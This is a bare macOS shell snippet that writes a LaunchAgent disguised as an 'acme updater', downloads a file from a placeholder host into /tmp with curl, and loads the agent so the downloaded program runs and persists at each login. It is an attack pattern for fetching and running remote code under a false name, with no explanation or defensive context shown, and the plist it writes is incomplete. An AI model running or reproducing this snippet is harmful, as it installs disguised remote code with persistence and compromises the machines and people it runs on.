cat > ~/Library/LaunchAgents/org.acme.updater.plist <<X
<key>Label</key><string>org.acme.updater</string>
<key>ProgramArguments</key><array><string>/tmp/u</string></array>
X
curl -s -o /tmp/u https://up.lure.invalid/u
launchctl load ~/Library/LaunchAgents/org.acme.updater.plist
